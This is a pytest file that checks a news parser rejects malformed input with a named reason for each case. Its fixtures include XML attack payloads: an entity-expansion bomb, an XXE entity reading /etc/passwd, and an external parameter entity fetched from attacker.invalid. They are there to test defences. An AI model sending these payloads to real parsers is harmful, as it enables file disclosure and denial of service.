"""Every kind of unusable payload raises ParseError with its own stable reason."""

from __future__ import annotations

import gzip

import pytest

from shared.errors import BadInput, ParseError
from shared.parsing import ParseLimits, parse_story

from .parsing_fixtures import RECEIVED, raw

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<newsItem><contentMeta><headline>&lol3;</headline></contentMeta></newsItem>"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE newsItem [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<newsItem><contentMeta><headline>&secret;</headline></contentMeta></newsItem>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<rss/>"""
PLAIN_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://x.invalid/rss.dtd">
<rss version="0.91"><channel><title>t</title><item><title>x</title></item></channel></rss>"""
RSS_NO_ITEM = b'<rss version="2.0"><channel><title>Empty</title></channel></rss>'
RSS_EMPTY_ITEM = (
    b'<rss version="2.0"><channel><title>AFP</title>'
    b"<item><title> </title><description><![CDATA[<p> </p>]]></description></item>"
    b"</channel></rss>"
)
NEWSML = b'<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="urn:x:1" version="1">'

CASES: list[tuple[str, bytes, dict[str, object]]] = [
    ("empty_payload", b"", {}),
    ("payload_too_large", b"x" * 2048, {"limits": ParseLimits(max_bytes=1024)}),
    ("undecodable", "Genève a annoncé".encode("latin-1"), {}),
    ("binary_content", b"\x00\x01\x02\x03garbage\x00\xff", {}),
    ("binary_content", gzip.compress(b"Nvidia to supply chips"), {}),
    ("binary_content", b"\x01\x02\x03\x04\x05\x06\x07\x08 header", {}),
    ("unknown_encoding", b'<?xml version="1.0" encoding="x-klingon"?><rss/>', {}),
    ("json_invalid", b'{"uri": "urn:x:1", "headline": ', {}),
    ("json_not_object", b'["urn:x:1", "headline"]', {}),
    ("not_ninjs", b'{"name": "a config file", "port": 8080}', {}),
    ("no_text", b'{"uri": "urn:x:1", "headline": " ", "body_html": "<p> </p><br/>"}', {}),
    ("xml_invalid", b"<newsItem><contentMeta></newsItem>", {}),
    ("xml_invalid", b"<<<>>>", {}),
    ("xml_forbidden_entity", BILLION_LAUGHS, {}),
    ("xml_external_entity", XXE, {}),
    ("xml_external_entity", PARAMETER_ENTITY, {}),
    ("xml_dtd_forbidden", PLAIN_DTD, {}),
    # no declaration: the fast C parser reads it, and an undeclared entity is plain invalid
    ("xml_invalid", b"<rss><channel><item><title>A &bomb; B</title></item></channel></rss>", {}),
    # a declaration after a comment still goes to the defused parser
    ("xml_forbidden_entity", b"<!-- x --><!DOCTYPE r [<!ENTITY a 'b'>]><r>&a;</r>", {}),
    ("xml_unknown_root", b"<html><body><p>Chips</p></body></html>", {}),
    ("newsml_no_item", b'<newsMessage xmlns="http://iptc.org/std/nar/2006-10-01/"/>', {}),
    ("no_text", NEWSML + b"<contentSet><inlineXML><p/></inlineXML></contentSet></newsItem>", {}),
    ("feed_no_item", RSS_NO_ITEM, {}),
    ("feed_item_no_text", RSS_EMPTY_ITEM, {}),
    ("feed_multiple_items", raw("feed_multi.xml"), {}),
    ("no_text", b"   \n\n\t \n", {}),
    ("no_text", b"date 2025-10-31\n\n=====\n\n/ATS\n", {}),
    ("unknown_format_hint", raw("reuters_en.txt"), {"format_hint": "pdf"}),
    ("format_mismatch", raw("newsml.xml"), {"format_hint": "ninjs"}),
    ("format_mismatch", raw("ninjs1.json"), {"format_hint": "agency-text"}),
    ("too_many_paragraphs", raw("ats_fr.txt"), {"limits": ParseLimits(max_paragraphs=2)}),
]


@pytest.mark.parametrize(("reason", "payload", "kwargs"), CASES)
def test_bad_input_has_a_readable_reason(
    reason: str, payload: bytes, kwargs: dict[str, object]
) -> None:
    with pytest.raises(ParseError) as caught:
        parse_story(payload, received_at=RECEIVED, **kwargs)  # type: ignore[arg-type]
    assert caught.value.reason == reason
    assert isinstance(caught.value, BadInput)
    assert str(caught.value).startswith(reason)


def test_there_are_at_least_fifteen_distinct_reasons() -> None:
    assert len({reason for reason, _, _ in CASES}) >= 15


def test_hint_that_agrees_is_accepted_case_insensitively() -> None:
    story = parse_story(raw("ninjs2.json"), received_at=RECEIVED, format_hint=" NINJS ")
    assert story.headline


def test_parse_limits_are_validated() -> None:
    with pytest.raises(ValueError):
        ParseLimits(max_bytes=0)
